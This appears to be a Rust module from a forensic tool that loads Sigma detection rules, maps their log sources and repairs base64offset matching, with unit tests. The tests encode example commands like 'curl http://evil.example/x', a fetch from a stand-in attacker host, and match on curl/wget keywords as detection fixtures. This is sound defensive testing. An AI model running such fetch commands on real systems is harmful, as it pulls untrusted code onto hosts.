//! Sigma rules as custody reads them: from files or its own built-in set,
//! each rule either ready to evaluate over the timeline's sources or set
//! aside once with the reason.
//!
//! Parsing is rsigma-parser's, evaluation rsigma-eval's. custody adds what
//! a case needs around them: which of its log sources a rule's `logsource`
//! names ([`sources_for`]), a check that every rule a correlation refers to
//! is loaded, and one repair of the parsed rule before it is compiled
//! ([`fix_base64offset`]).

use std::collections::{BTreeMap, HashMap, HashSet};
use std::path::{Path, PathBuf};

use base64::Engine as _;
use rsigma_parser::{
    CorrelationRule, Detection, DetectionItem, LogSource, Modifier, SigmaRule, SigmaString,
    SigmaValue,
};
use serde::Serialize;

/// The rules shipped with custody (`detection_rules/`), by their path there.
pub const BUILTIN: &[(&str, &str)] = &[
    (
        "azure/legacy_protocol_signin.yml",
        include_str!("../../detection_rules/azure/legacy_protocol_signin.yml"),
    ),
    (
        "azure/mfa_method_change.yml",
        include_str!("../../detection_rules/azure/mfa_method_change.yml"),
    ),
    (
        "azure/oauth_consent.yml",
        include_str!("../../detection_rules/azure/oauth_consent.yml"),
    ),
    (
        "m365/inbox_rule_forwards_outside.yml",
        include_str!("../../detection_rules/m365/inbox_rule_forwards_outside.yml"),
    ),
    (
        "m365/inbox_rule_hides_mail.yml",
        include_str!("../../detection_rules/m365/inbox_rule_hides_mail.yml"),
    ),
    (
        "m365/mail_burst.yml",
        include_str!("../../detection_rules/m365/mail_burst.yml"),
    ),
    (
        "m365/mail_sent.yml",
        include_str!("../../detection_rules/m365/mail_sent.yml"),
    ),
    (
        "m365/mailbox_forwarding_outside.yml",
        include_str!("../../detection_rules/m365/mailbox_forwarding_outside.yml"),
    ),
    (
        "m365/mailbox_permission_change.yml",
        include_str!("../../detection_rules/m365/mailbox_permission_change.yml"),
    ),
    (
        "m365/mfa_method_change.yml",
        include_str!("../../detection_rules/m365/mfa_method_change.yml"),
    ),
    (
        "m365/oauth_consent.yml",
        include_str!("../../detection_rules/m365/oauth_consent.yml"),
    ),
];

/// A rule file larger than this is refused unread: SigmaHQ's largest is a
/// few KiB, and the YAML parser holds the whole file.
pub const MAX_RULE_FILE: u64 = 1 << 20;

/// Rule files a directory may hold before custody stops reading it: a
/// checkout of all of SigmaHQ is about 3,500.
pub const MAX_RULE_FILES: usize = 100_000;

#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum RulesError {
    #[error("cannot read the rules at {path}")]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{path} holds more than {MAX_RULE_FILES} rule files")]
    TooMany { path: PathBuf },
}

/// A rule that is not evaluated, once, with why.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct SetAside {
    /// The file (a built-in rule's path starts with `builtin:`).
    pub file: String,
    /// Its title and id where they could be read.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub title: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub id: Option<String>,
    /// `unreadable` (the file or its YAML), `unsupported` (something custody
    /// cannot evaluate) or `no_source` (a log source custody does not read).
    pub kind: &'static str,
    pub reason: String,
}

/// A detection rule ready to evaluate, with the custody sources it reads.
#[derive(Debug, Clone)]
pub struct Loaded {
    pub file: String,
    pub rule: SigmaRule,
    pub sources: Vec<&'static str>,
}

/// Everything read from the rule files.
#[derive(Debug, Default)]
pub struct RuleSet {
    pub rules: Vec<Loaded>,
    pub correlations: Vec<(String, CorrelationRule)>,
    pub set_aside: Vec<SetAside>,
    /// Files read (built-in ones included).
    pub files: usize,
}

impl RuleSet {
    /// custody's own rules.
    pub fn builtin() -> Self {
        let mut set = Self::default();
        for (path, text) in BUILTIN {
            set.add_text(&format!("builtin:{path}"), text);
        }
        set.settle();
        set
    }

    /// The `.yml`/`.yaml` files under `dir` (or `dir` itself when it is a
    /// file), in path order, added to this set.
    pub fn add_path(&mut self, path: &Path) -> Result<(), RulesError> {
        let mut files = Vec::new();
        collect_files(path, &mut files)?;
        files.sort();
        for f in files {
            let shown = f.display().to_string();
            match read_rule_file(&f) {
                Ok(text) => self.add_text(&shown, &text),
                Err(reason) => self.set_aside.push(SetAside {
                    file: shown,
                    title: None,
                    id: None,
                    kind: "unreadable",
                    reason,
                }),
            }
        }
        Ok(())
    }

    /// Parses one file's documents (a rule, or a correlation with the rules it counts).
    fn add_text(&mut self, file: &str, text: &str) {
        self.files += 1;
        // Sigma 1's aggregations are refused by the parser; say what they are.
        let refusal = |e: String| match v1_aggregation(text) {
            Some(line) => (
                "unsupported",
                format!(
                    "a Sigma 1 aggregation (`{line}`): Sigma 2 writes it as a correlation rule (event_count, value_count), which custody evaluates"
                ),
            ),
            None => ("unreadable", e),
        };
        let collection = match rsigma_parser::parse_sigma_yaml(text) {
            Ok(c) => c,
            Err(e) => {
                let (kind, reason) = refusal(e.to_string());
                self.set_aside.push(SetAside {
                    file: file.to_owned(),
                    title: None,
                    id: None,
                    kind,
                    reason,
                });
                return;
            }
        };
        for e in &collection.errors {
            let (kind, reason) = refusal(e.clone());
            self.set_aside.push(SetAside {
                file: file.to_owned(),
                title: None,
                id: None,
                kind,
                reason,
            });
        }
        if !collection.filters.is_empty() {
            self.set_aside.push(SetAside {
                file: file.to_owned(),
                title: collection.filters.first().map(|f| f.title.clone()),
                id: None,
                kind: "unsupported",
                reason: "Sigma filter documents are not applied by custody detect".into(),
            });
        }
        for mut rule in collection.rules {
            // rsigma-eval links a match to the correlations counting it by
            // the rule's id: a rule without one is given its name, else its title.
            if rule.id.is_none() {
                rule.id = Some(match &rule.name {
                    Some(n) => n.clone(),
                    None => format!("title:{}", rule.title),
                });
            }
            let (title, id) = (rule.title.clone(), rule.id.clone());
            let refused = |kind, reason: String| SetAside {
                file: file.to_owned(),
                title: Some(title.clone()),
                id: id.clone(),
                kind,
                reason,
            };
            match sources_for(&rule.logsource) {
                Err(reason) => self.set_aside.push(refused("no_source", reason)),
                Ok(sources) => {
                    if let Err(reason) = fix_base64offset(&mut rule) {
                        self.set_aside.push(refused("unsupported", reason));
                        continue;
                    }
                    // Compiled once here so that a rule rsigma-eval cannot
                    // evaluate is reported now, not skipped later.
                    if let Err(e) = rsigma_eval::compile_rule(&rule) {
                        let (_, reason) = refusal(format!("cannot be compiled: {e}"));
                        self.set_aside.push(refused("unsupported", reason));
                        continue;
                    }
                    self.rules.push(Loaded {
                        file: file.to_owned(),
                        rule,
                        sources,
                    });
                }
            }
        }
        for c in collection.correlations {
            self.correlations.push((file.to_owned(), c));
        }
    }

    /// Once every file is read: correlations whose rules are not all loaded
    /// are set aside, and so are rules whose id another rule already took.
    pub fn settle(&mut self) {
        let mut seen: HashMap<String, String> = HashMap::new();
        let mut kept = Vec::with_capacity(self.rules.len());
        for l in std::mem::take(&mut self.rules) {
            if let Some(id) = &l.rule.id {
                if let Some(first) = seen.get(id) {
                    self.set_aside.push(SetAside {
                        file: l.file.clone(),
                        title: Some(l.rule.title.clone()),
                        id: Some(id.clone()),
                        kind: "unreadable",
                        reason: format!(
                            "its id is also the id of a rule in {first}; the first is kept"
                        ),
                    });
                    continue;
                }
                seen.insert(id.clone(), l.file.clone());
            }
            kept.push(l);
        }
        self.rules = kept;
        let known: HashSet<&str> = self
            .rules
            .iter()
            .flat_map(|l| [l.rule.id.as_deref(), l.rule.name.as_deref()])
            .flatten()
            .collect();
        let mut correlations = Vec::new();
        for (file, c) in std::mem::take(&mut self.correlations) {
            let missing: Vec<&String> = c
                .rules
                .iter()
                .filter(|r| !known.contains(r.as_str()))
                .collect();
            if missing.is_empty() {
                correlations.push((file, c));
            } else {
                let names: Vec<&str> = missing.iter().map(|s| s.as_str()).collect();
                self.set_aside.push(SetAside {
                    file,
                    title: Some(c.title.clone()),
                    id: c.id.clone(),
                    kind: "unsupported",
                    reason: format!(
                        "the correlation counts rules that are not loaded or not evaluable: {}",
                        names.join(", ")
                    ),
                });
            }
        }
        self.correlations = correlations;
    }

    /// Set-aside rules counted by kind and reason, for the check's summary.
    pub fn reasons(&self) -> BTreeMap<(&'static str, String), usize> {
        let mut out = BTreeMap::new();
        for s in &self.set_aside {
            *out.entry((s.kind, s.reason.clone())).or_default() += 1;
        }
        out
    }
}

/// The condition line of a Sigma 1 aggregation (`selection | count() by x > 5`), if any.
fn v1_aggregation(text: &str) -> Option<&str> {
    text.lines().map(str::trim).find(|l| {
        let cond = l
            .strip_prefix("condition:")
            .or_else(|| l.strip_prefix("- "));
        cond.is_some_and(|c| {
            c.contains('|')
                && ["count(", "min(", "max(", "avg(", "sum(", "near "]
                    .iter()
                    .any(|f| c.contains(f))
        })
    })
}

fn collect_files(path: &Path, out: &mut Vec<PathBuf>) -> Result<(), RulesError> {
    let meta = std::fs::metadata(path).map_err(|source| RulesError::Read {
        path: path.to_owned(),
        source,
    })?;
    if meta.is_file() {
        out.push(path.to_owned());
        return Ok(());
    }
    let mut stack = vec![path.to_owned()];
    while let Some(dir) = stack.pop() {
        let entries = std::fs::read_dir(&dir).map_err(|source| RulesError::Read {
            path: dir.clone(),
            source,
        })?;
        for entry in entries {
            let entry = entry.map_err(|source| RulesError::Read {
                path: dir.clone(),
                source,
            })?;
            let p = entry.path();
            // Symbolic links are not followed: a loop would never end.
            let Ok(kind) = entry.file_type() else {
                continue;
            };
            if kind.is_dir() {
                stack.push(p);
            } else if kind.is_file()
                && p.extension().is_some_and(|e| {
                    e.eq_ignore_ascii_case("yml") || e.eq_ignore_ascii_case("yaml")
                })
            {
                if out.len() >= MAX_RULE_FILES {
                    return Err(RulesError::TooMany {
                        path: path.to_owned(),
                    });
                }
                out.push(p);
            }
        }
    }
    Ok(())
}

fn read_rule_file(path: &Path) -> Result<String, String> {
    let meta = std::fs::metadata(path).map_err(|e| format!("cannot read it: {e}"))?;
    if meta.len() > MAX_RULE_FILE {
        return Err(format!(
            "{} bytes: larger than the {MAX_RULE_FILE} a rule file may be",
            meta.len()
        ));
    }
    let bytes = std::fs::read(path).map_err(|e| format!("cannot read it: {e}"))?;
    String::from_utf8(bytes).map_err(|e| format!("not UTF-8 text: {e}"))
}

/// The custody event sources (the timeline's `source` values) a rule's
/// `logsource` names, or why none.
pub fn sources_for(ls: &LogSource) -> Result<Vec<&'static str>, String> {
    let lower = |v: &Option<String>| v.as_deref().map(str::to_ascii_lowercase);
    let (product, service, category) =
        (lower(&ls.product), lower(&ls.service), lower(&ls.category));
    let named = || {
        let mut parts = Vec::new();
        for (k, v) in [
            ("product", &product),
            ("service", &service),
            ("category", &category),
        ] {
            if let Some(v) = v {
                parts.push(format!("{k}: {v}"));
            }
        }
        parts.join(", ")
    };
    let none = |why: &str| Err(format!("logsource {{{}}}: {why}", named()));
    if category.is_some() && product.as_deref() != Some("linux") {
        return none("custody reads no log source by category");
    }
    match (product.as_deref(), service.as_deref()) {
        (Some("aws"), None | Some("cloudtrail")) => Ok(vec!["cloudtrail"]),
        (Some("azure"), Some("activitylogs")) => Ok(vec!["azure_activity"]),
        (Some("azure"), Some("signinlogs")) => Ok(vec!["entra_signin"]),
        (Some("azure"), Some("auditlogs")) => Ok(vec!["entra_audit"]),
        (Some("azure"), _) => none(
            "custody reads Azure's activitylogs, signinlogs and auditlogs (and their Sentinel tables), not this one",
        ),
        (
            Some("m365"),
            None | Some("audit" | "exchange" | "threat_management" | "threat_detection"),
        ) => Ok(vec!["m365_ual"]),
        (Some("kubernetes"), None | Some("audit")) => Ok(vec!["k8s_audit"]),
        (Some("gcp"), None | Some("gcp.audit")) => Ok(vec!["gcp_audit"]),
        (Some("gcp"), Some(s)) if s.starts_with("google_workspace") => {
            none("custody has no parser for Google Workspace logs")
        }
        (Some("linux"), _) if category.is_some() => none(
            "needs endpoint telemetry (process, file or network events) that custody does not read",
        ),
        (Some("linux"), Some("auditd")) => none("custody reads no auditd logs"),
        (Some("linux"), _) => Ok(vec!["host", "journal"]),
        (Some(p), _) => none(&format!("custody has no parser for {p} logs")),
        (None, _) => none("names no product"),
    }
}

/// Replaces `base64offset` on plain strings by the three encodings it
/// stands for, as the Sigma specification defines them.
///
/// rsigma-eval 0.23 keeps the last base64 character of each encoding,
/// which also depends on the bytes that follow the value, so two of the
/// three alignments never match (fixed upstream in releases this
/// toolchain cannot build). The repair is here, on the parsed rule, and a
/// test holds it to the specification's known answers.
pub fn fix_base64offset(rule: &mut SigmaRule) -> Result<(), String> {
    for d in rule.detection.named.values_mut() {
        fix_detection(d)?;
    }
    Ok(())
}

fn fix_detection(d: &mut Detection) -> Result<(), String> {
    match d {
        Detection::AllOf(items) => {
            let mut out = Vec::with_capacity(items.len());
            for item in std::mem::take(items) {
                out.extend(fix_item(item)?);
            }
            *items = out;
        }
        Detection::AnyOf(ds) | Detection::And(ds) => {
            for d in ds {
                fix_detection(d)?;
            }
        }
        Detection::ArrayMatch { body, .. } => fix_detection(body)?,
        Detection::Conditional { named, .. } => {
            for d in named.values_mut() {
                fix_detection(d)?;
            }
        }
        Detection::Keywords(_) => {}
    }
    Ok(())
}

/// One item, or with `|all` one item per value (each must match in one of
/// its encodings).
fn fix_item(mut item: DetectionItem) -> Result<Vec<DetectionItem>, String> {
    let mods = &item.field.modifiers;
    let Some(at) = mods.iter().position(|m| *m == Modifier::Base64Offset) else {
        return Ok(vec![item]);
    };
    let before = mods.get(..at).unwrap_or_default();
    let wide = match before {
        [] => false,
        [Modifier::Wide] => true,
        _ => {
            return Err(format!(
                "base64offset after {before:?} on {}: custody evaluates it alone or after wide",
                item.field.name.as_deref().unwrap_or("a keyword")
            ));
        }
    };
    let all = mods.contains(&Modifier::All);
    let rest: Vec<Modifier> = mods
        .iter()
        .skip(at + 1)
        .copied()
        .filter(|m| *m != Modifier::All)
        .collect();
    let mut groups = Vec::with_capacity(item.values.len());
    for v in &item.values {
        let SigmaValue::String(s) = v else {
            return Err("base64offset on a value that is not a string".into());
        };
        if s.parts
            .iter()
            .any(|p| matches!(p, rsigma_parser::StringPart::Special(_)))
        {
            return Err(format!(
                "base64offset on a value with wildcards ({}) has no fixed encoding",
                s.original
            ));
        }
        let raw: Vec<u8> = if wide {
            s.original
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect()
        } else {
            s.original.as_bytes().to_vec()
        };
        groups.push(
            base64_offsets(&raw)
                .into_iter()
                .map(|p| SigmaValue::String(SigmaString::new(&p)))
                .collect::<Vec<_>>(),
        );
    }
    item.field.modifiers = rest;
    if all {
        Ok(groups
            .into_iter()
            .map(|values| DetectionItem {
                field: item.field.clone(),
                values,
            })
            .collect())
    } else {
        item.values = groups.into_iter().flatten().collect();
        Ok(vec![item])
    }
}

/// The three base64 encodings of `value` at byte offsets 0, 1 and 2 of a
/// longer text, each cut to the characters that depend on `value` alone.
pub fn base64_offsets(value: &[u8]) -> Vec<String> {
    let mut out = Vec::with_capacity(3);
    for offset in 0..3usize {
        let mut padded = vec![0u8; offset];
        padded.extend_from_slice(value);
        let encoded = base64::engine::general_purpose::STANDARD.encode(&padded);
        // The first characters also hold the zero bytes before the value;
        // the last ones the bytes after it (or padding).
        let start = [0, 2, 3].get(offset).copied().unwrap_or(0);
        let cut = [0, 3, 2]
            .get((value.len() + offset) % 3)
            .copied()
            .unwrap_or(0);
        let end = encoded.len().saturating_sub(cut);
        if let Some(p) = encoded.get(start..end).filter(|p| !p.is_empty()) {
            out.push(p.to_owned());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64offset_gives_the_specifications_three_encodings() {
        // pySigma's and the specification's known answer for "/bin/bash".
        assert_eq!(
            base64_offsets(b"/bin/bash"),
            vec!["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"]
        );
        // Each found inside the encoding of a longer text at its offset.
        for prefix in ["", "a", "ab", "abc", "abcd"] {
            let text = format!("{prefix}curl http://evil.example/x tail");
            let enc = base64::engine::general_purpose::STANDARD.encode(text.as_bytes());
            assert!(
                base64_offsets(b"http://evil.example")
                    .iter()
                    .any(|p| enc.contains(p.as_str())),
                "offset {} not found in {enc}",
                prefix.len()
            );
        }
    }

    fn compile_and_match(yaml: &str, event: serde_json::Value) -> bool {
        let mut set = RuleSet::default();
        set.add_text("t.yml", yaml);
        set.settle();
        assert!(set.set_aside.is_empty(), "{:?}", set.set_aside);
        let rule = &set.rules.first().expect("loaded").rule;
        let compiled = rsigma_eval::compile_rule(rule).expect("compile");
        rsigma_eval::evaluate_rule(&compiled, &rsigma_eval::JsonEvent::borrow(&event)).is_some()
    }

    #[test]
    fn repaired_base64offset_matches_at_every_alignment_and_all_means_all() {
        let rule = "title: t\nlogsource: {product: aws}\ndetection:\n  s:\n    cmd|base64offset|contains: 'http://'\n  condition: s\n";
        for prefix in ["", "a ", "ab ", "abc "] {
            let enc = base64::engine::general_purpose::STANDARD
                .encode(format!("{prefix}curl http://evil.example").as_bytes());
            assert!(
                compile_and_match(rule, serde_json::json!({ "cmd": enc })),
                "prefix {prefix:?}"
            );
        }
        assert!(!compile_and_match(
            rule,
            serde_json::json!({ "cmd": base64::engine::general_purpose::STANDARD.encode("ftp only") })
        ));
        let all = "title: t\nlogsource: {product: aws}\ndetection:\n  s:\n    cmd|base64offset|contains|all:\n      - 'curl'\n      - 'wget'\n  condition: s\n";
        let one = base64::engine::general_purpose::STANDARD.encode("x curl y");
        let both = base64::engine::general_purpose::STANDARD.encode("x curl y wget z");
        assert!(!compile_and_match(all, serde_json::json!({ "cmd": one })));
        assert!(compile_and_match(all, serde_json::json!({ "cmd": both })));
    }

    #[test]
    fn logsources_name_custody_sources_or_say_why_not() {
        let ls = |p: Option<&str>, s: Option<&str>, c: Option<&str>| LogSource {
            product: p.map(Into::into),
            service: s.map(Into::into),
            category: c.map(Into::into),
            definition: None,
            custom: HashMap::new(),
        };
        assert_eq!(
            sources_for(&ls(Some("aws"), Some("cloudtrail"), None)),
            Ok(vec!["cloudtrail"])
        );
        assert_eq!(
            sources_for(&ls(Some("M365"), Some("exchange"), None)),
            Ok(vec!["m365_ual"])
        );
        assert_eq!(
            sources_for(&ls(Some("gcp"), Some("gcp.audit"), None)),
            Ok(vec!["gcp_audit"])
        );
        let gws = sources_for(&ls(Some("gcp"), Some("google_workspace.admin"), None))
            .expect_err("workspace");
        assert!(gws.contains("Google Workspace"), "{gws}");
        let okta = sources_for(&ls(Some("okta"), Some("okta"), None)).expect_err("okta");
        assert!(okta.contains("no parser for okta"), "{okta}");
        let pim = sources_for(&ls(Some("azure"), Some("pim"), None)).expect_err("pim");
        assert!(pim.contains("service: pim"), "{pim}");
        let proc = sources_for(&ls(Some("linux"), None, Some("process_creation")))
            .expect_err("process_creation");
        assert!(proc.contains("endpoint telemetry"), "{proc}");
    }

    #[test]
    fn bad_rules_are_set_aside_once_with_their_reason() {
        let mut set = RuleSet::default();
        set.add_text("broken.yml", "title: [unclosed\n");
        set.add_text(
            "okta.yml",
            "title: g\nid: 11111111-1111-4111-8111-111111111111\nlogsource: {product: okta, service: okta}\ndetection:\n  s:\n    a: b\n  condition: s\n",
        );
        set.add_text(
            "badmod.yml",
            "title: m\nlogsource: {product: aws}\ndetection:\n  s:\n    a|nosuchmodifier: b\n  condition: s\n",
        );
        set.add_text(
            "corr.yml",
            "title: c\ncorrelation:\n  type: event_count\n  rules: [not_here]\n  group-by: [a]\n  timespan: 1h\n  condition: {gte: 2}\n",
        );
        set.settle();
        assert!(set.rules.is_empty());
        let kinds: Vec<(&str, &str)> = set
            .set_aside
            .iter()
            .map(|s| (s.file.as_str(), s.kind))
            .collect();
        assert_eq!(
            kinds,
            vec![
                ("broken.yml", "unreadable"),
                ("okta.yml", "no_source"),
                ("badmod.yml", "unreadable"),
                ("corr.yml", "unsupported"),
            ],
            "{:#?}",
            set.set_aside
        );
        assert!(set.set_aside.iter().all(|s| !s.reason.is_empty()));
    }

    #[test]
    fn every_builtin_rule_loads_and_every_file_is_listed() {
        let set = RuleSet::builtin();
        assert!(set.set_aside.is_empty(), "{:#?}", set.set_aside);
        assert_eq!(set.rules.len() + set.correlations.len(), BUILTIN.len());
        // A rule file added to detection_rules/ and not to BUILTIN would never ship.
        // At run time: a shared target directory may hold a binary built from another checkout.
        let root = PathBuf::from(std::env::var("CARGO_MANIFEST_DIR").expect("cargo test sets it"))
            .join("detection_rules");
        let mut files = Vec::new();
        collect_files(&root, &mut files).expect("detection_rules");
        let mut on_disk: Vec<String> = files
            .iter()
            .filter_map(|f| f.strip_prefix(&root).ok())
            .map(|f| f.to_string_lossy().into_owned())
            .collect();
        on_disk.sort();
        let listed: Vec<String> = BUILTIN.iter().map(|(p, _)| (*p).to_owned()).collect();
        assert_eq!(on_disk, listed);
    }
}
